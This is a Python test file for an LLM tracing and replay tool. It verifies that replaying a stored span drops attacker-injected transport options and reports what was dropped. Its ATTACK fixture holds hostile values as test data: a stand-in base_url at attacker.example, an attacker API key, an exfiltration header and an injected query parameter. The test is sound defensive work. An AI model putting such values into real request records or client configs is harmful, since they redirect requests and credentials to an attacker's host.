"""Stored request records are untrusted: a span ingested over OTLP by anyone with an editor key
may carry transport options in its request record; a replay sends only the body parameters the
provider's API defines, and says what it dropped."""

from __future__ import annotations

import json

import pytest

from otel_llm import attributes as attrs
from otel_llm.accounts import create_key, create_project
from otel_llm.replay.run import replay_span
from otel_llm.storage.db import get_engine
from tests.test_collector_support import export_spans, genai_span, running_collector

pytestmark = pytest.mark.postgres

ATTACK = {
    "extra_headers": {"Authorization": "Bearer sk-attacker", "X-Exfiltrate": "1"},
    "extra_query": {"api-version": "evil"},
    "timeout": 0.001,
    "api_key": "sk-attacker",
    "base_url": "http://attacker.example/v1",
    "max_retries": 50,
    "default_headers": {"X-Other": "1"},
    "extra_body": {"evil_field": "x", "seed": 7},
    "not_an_openai_parameter": True,
}


def _crafted(record: dict) -> dict:
    span = genai_span(0)
    span["attributes"][attrs.REQUEST] = json.dumps(record)
    return span


def test_a_crafted_record_sent_through_the_collector_replays_without_its_transport_options(
    pg_url, tmp_path, mock_llm
):
    engine = get_engine(pg_url)
    project = create_project(engine, "shop")
    _, token = create_key(engine, "shop", "editor")
    params = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}], "temperature": 0.2}
    record = {
        "api": "openai.chat.completions",
        "params": {**params, **ATTACK},
        "content": True,
        "stream": False,
    }
    with running_collector(pg_url, tmp_path, "--no-spool") as collector:
        sent = export_spans(
            [_crafted(record)], [{"endpoint": collector.endpoint, "token": token, "batches": [[0]]}]
        )
    assert sent.results == [["SUCCESS"]], sent.stderr
    span_id = sent.spans[0]["span_id"]

    result = replay_span(engine, project.id, span_id, actor="t", base_url=mock_llm.url)

    assert result.status == "ok", result.error
    received = mock_llm.requests[-1]
    assert received.path == "/v1/chat/completions"  # no attacker query string
    assert received.headers["authorization"] == "Bearer mock-key-not-secret"
    assert "x-exfiltrate" not in received.headers and "x-other" not in received.headers
    assert received.json == {**params, "seed": 7}  # body parameters the API defines, nothing else
    note = next(n for n in result.notes if "not sent" in n)
    for key in ("extra_headers", "extra_query", "timeout", "api_key", "base_url", "max_retries"):
        assert key in note
    assert "extra_body.evil_field" in note and "not_an_openai_parameter" in note
    assert note in result.to_json()["warnings"]  # shown as "not carried over" with the replay


def test_a_crafted_anthropic_record_keeps_only_messages_api_parameters(pg_url, tmp_path, mock_llm):
    engine = get_engine(pg_url)
    project = create_project(engine, "shop")
    _, token = create_key(engine, "shop", "editor")
    params = {"model": "claude-haiku-4-5", "max_tokens": 20, "messages": [{"role": "user", "content": "hi"}]}
    record = {"api": "anthropic.messages", "params": {**params, **ATTACK}, "content": True}
    span = _crafted(record)
    span["attributes"]["gen_ai.provider.name"] = "anthropic"
    with running_collector(pg_url, tmp_path, "--no-spool") as collector:
        sent = export_spans([span], [{"endpoint": collector.endpoint, "token": token, "batches": [[0]]}])
    assert sent.results == [["SUCCESS"]], sent.stderr

    result = replay_span(engine, project.id, sent.spans[0]["span_id"], actor="t", base_url=mock_llm.url)

    assert result.status == "ok", result.error
    received = mock_llm.requests[-1]
    assert received.path == "/v1/messages"
    key = received.headers.get("x-api-key") or received.headers["authorization"].removeprefix("Bearer ")
    assert key == "mock-key-not-secret" and "x-exfiltrate" not in received.headers
    assert received.json == params  # `seed` is no Messages API parameter: dropped from extra_body too
    note = next(n for n in result.notes if "not sent" in n)
    assert "extra_body.seed" in note and "extra_headers" in note
